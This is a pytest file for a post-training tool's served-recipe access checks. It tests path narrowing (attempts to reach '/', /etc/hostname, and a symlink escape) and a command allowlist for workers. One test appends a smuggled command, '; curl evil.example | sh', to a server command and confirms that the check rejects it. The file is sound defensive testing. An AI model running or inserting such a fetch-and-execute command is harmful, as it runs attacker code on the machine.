"""The narrowing rule for served recipes (posttrain.config.served_access): fast, real folders, no server."""

from __future__ import annotations

import copy
import json
import os
import shlex
from pathlib import Path

import pytest

from posttrain.config.loader import RecipeError
from posttrain.config.schema import Recipe
from posttrain.config.served_access import (
    check_served_reach,
    parse_roots,
    reward_roots,
    served_roots,
    with_roots,
    worker_roots,
)
from tests.stage_helpers import TINY


def _recipe(tmp_path: Path, **run: object) -> Recipe:
    data = copy.deepcopy(TINY)
    data["run"]["workspace"] = str(tmp_path / "ws")
    data["run"].update(run)
    return Recipe.model_validate(data)


def _with_data(recipe: Recipe, path: str) -> Recipe:
    data = recipe.model_dump(mode="json")
    data["sft"]["data"].update(synthetic=None, path=path)
    return Recipe.model_validate(data)


def _errors(recipe: Recipe, roots: list[Path]) -> list[str]:
    with pytest.raises(RecipeError) as info:
        check_served_reach(recipe, roots, reward_roots())
    return info.value.errors


def test_roots_come_from_the_environment_absolute_only(tmp_path: Path) -> None:
    value = os.pathsep.join([str(tmp_path), "relative/dir", "", "~", str(tmp_path)])
    assert parse_roots(value) == [tmp_path.resolve(), Path.home().resolve()]
    assert worker_roots({"POSTTRAIN_ALLOWED_PATHS": str(tmp_path)}) == [tmp_path.resolve()]
    assert worker_roots({}) == []
    joined = with_roots(str(tmp_path / "a"), [tmp_path / "b", str(tmp_path / "a")])
    assert joined.split(os.pathsep) == [str(tmp_path / "a"), str(tmp_path / "b")]


def test_the_served_recipe_itself_passes_inside_its_own_roots(tmp_path: Path) -> None:
    (tmp_path / "data").mkdir()
    rows = tmp_path / "data" / "rows.jsonl"
    rows.write_text("{}\n")
    served = _with_data(_recipe(tmp_path, allowed_paths=[str(tmp_path / "data")]), str(rows))
    roots = parse_roots(os.pathsep.join(served_roots(served)))
    check_served_reach(served, roots, reward_roots())
    # Narrowing is fine: a sub-folder of an allowed root, a workspace inside the old one.
    narrowed = _with_data(
        _recipe(tmp_path, workspace=str(tmp_path / "ws" / "sub"), allowed_paths=[str(rows.parent)]),
        str(rows),
    )
    check_served_reach(narrowed, roots, reward_roots())


def test_widening_names_every_field_and_the_worker_folders(tmp_path: Path) -> None:
    roots = [tmp_path.resolve()]
    hostile = _with_data(_recipe(tmp_path, allowed_paths=["/"]), "/etc/hostname")
    errors = _errors(hostile, roots)
    assert errors[0] == (
        f"run.allowed_paths.0: / is outside the folders this worker allows ({tmp_path.resolve()})"
    )
    assert errors[1].startswith("sft.data.path: /etc/hostname is outside this served run's")
    # Moving the workspace (an implicit root for `posttrain run`) is widening too.
    errors = _errors(_recipe(tmp_path, workspace="/"), roots)
    assert errors == [
        f"run.workspace: / is outside the folders this worker allows ({tmp_path.resolve()})"
    ]


def test_no_implicit_current_directory_and_no_symlink_out(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    roots = [(tmp_path / "ws").resolve()]
    monkeypatch.chdir(tmp_path)
    (tmp_path / "secret.jsonl").write_text("{}\n")
    # `posttrain run` allows the current directory; a served run does not.
    errors = _errors(_with_data(_recipe(tmp_path), "secret.jsonl"), roots)
    assert errors == [
        f"sft.data.path: {tmp_path.resolve() / 'secret.jsonl'} (given as secret.jsonl) is "
        f"outside this served run's run.workspace and run.allowed_paths ({roots[0]})"
    ]
    (tmp_path / "ws").mkdir()
    (tmp_path / "ws" / "link").symlink_to("/etc")
    errors = _errors(
        _with_data(_recipe(tmp_path), str(tmp_path / "ws" / "link" / "hostname")), roots
    )
    assert errors[0].startswith("sft.data.path: /etc/hostname (given as ")


def test_a_worker_without_folders_refuses_everything(tmp_path: Path) -> None:
    errors = _errors(_recipe(tmp_path), [])
    assert errors == [
        f"run.workspace: {tmp_path / 'ws'} is outside the folders this worker allows (none: start "
        "`posttrain serve --allow-path DIR` or set POSTTRAIN_ALLOWED_PATHS)"
    ]


def test_a_flow_run_plans_once_and_a_served_recipe_is_checked_then_resolved(
    tmp_path: Path,
) -> None:
    from flows.post_train import handing, plan_once
    from posttrain.config.loader import resolve
    from posttrain.config.schema import ResolvedRecipe
    from posttrain.config.served_access import ServedReach
    from posttrain.plan.planner import plan

    recipe = resolve(_recipe(tmp_path))
    handed = plan(recipe)  # what `posttrain run` planned before Prefect started
    reach = ServedReach([(tmp_path / "ws").resolve()], [])
    with handing(handed):
        assert plan_once(recipe, None) is handed
        # Another recipe (a served run's parameter arrives as a new object) is planned anew,
        # and a served run never takes a handed plan: its recipe is checked first.
        assert plan_once(recipe.model_copy(deep=True), None) is not handed
        assert plan_once(recipe, reach) is not handed
        with pytest.raises(RecipeError, match="outside the folders this worker allows"):
            plan_once(recipe, ServedReach([(tmp_path / "elsewhere").resolve()], []))
    # Unresolved (the Prefect form's recipe, a flow called from code): resolved there.
    served = plan_once(_recipe(tmp_path), reach)
    assert type(served.recipe) is ResolvedRecipe and served.recipe.infra.parallel_stages == 1
    assert [s.fingerprint for s in served.stages] == [s.fingerprint for s in handed.stages]


SERVE = "transformers serve --host {host} --port {port}"
JUDGE = ["vllm", "serve", "{model}", "--port", "{port}"]


def _with_commands(tmp_path: Path) -> Recipe:
    data = copy.deepcopy(TINY)
    data["run"]["workspace"] = str(tmp_path / "ws")
    judge = {"command": JUDGE, "model": "judge-m", "rubric": "Rate: {completion}"}
    data["grpo"] = {
        "data": {"synthetic": {}},
        "rewards": [{"fn": "posttrain.rewards.match:exact_match"}, {"judge": judge}],
        "rollout": {"engine": "server", "server": {"command": SERVE}, "samples_per_prompt": 2},
    }
    return Recipe.model_validate(data)


def test_every_server_command_of_a_recipe_is_found_by_field(tmp_path: Path) -> None:
    from posttrain.config.served_access import served_commands

    assert served_commands(_with_commands(tmp_path)) == {
        "grpo.rollout.server.command": SERVE,
        "grpo.rewards.1.judge.command": "vllm serve '{model}' --port '{port}'",
    }
    assert served_commands(_recipe(tmp_path)) == {}


def test_a_served_run_starts_only_the_commands_its_worker_allows(tmp_path: Path) -> None:
    from posttrain.config.served_access import (
        COMMANDS_ENV,
        ServedReach,
        served_commands,
        with_commands,
        worker_commands,
    )

    recipe = _with_commands(tmp_path)
    roots = [(tmp_path / "ws").resolve()]
    with pytest.raises(RecipeError) as info:
        ServedReach(roots, []).check(recipe)  # a worker that allows no command
    judge = "vllm serve '{model}' --port '{port}'"  # the argv as one text (shlex.join)
    assert info.value.errors == [
        f"{where}: `{cmd}` is not a command this worker lets served runs start: serve a recipe "
        f"with it, start `posttrain serve --allow-command {shlex.quote(cmd)}`, or add it to "
        "POSTTRAIN_ALLOWED_COMMANDS"
        for where, cmd in (
            ("grpo.rollout.server.command", SERVE),
            ("grpo.rewards.1.judge.command", judge),
        )
    ]
    # The same argv written otherwise is the same command.
    spaced = {
        COMMANDS_ENV: json.dumps([SERVE.replace(" ", "  "), "vllm serve {model} --port {port}"])
    }
    ServedReach(roots, [], worker_commands(spaced)).check(recipe)
    # `posttrain serve RECIPE` allows the commands its recipes start, exactly as written.
    env = {COMMANDS_ENV: with_commands(None, served_commands(recipe).values())}
    ServedReach.of_worker(env | {"POSTTRAIN_ALLOWED_PATHS": str(roots[0])}).check(recipe)
    edited = _with_commands(tmp_path).model_dump(mode="json")
    edited["grpo"]["rollout"]["server"]["command"] = SERVE + "; curl evil.example | sh"
    with pytest.raises(RecipeError, match=r"grpo.rollout.server.command: `transformers serve"):
        ServedReach(roots, [], worker_commands(env)).check(Recipe.model_validate(edited))
    # What the worker's variable holds: a JSON list; anything else allows nothing.
    assert worker_commands({COMMANDS_ENV: "transformers serve"}) == []
    assert with_commands(json.dumps(["a"]), ["b", "a", "b"]) == json.dumps(["a", "b"])
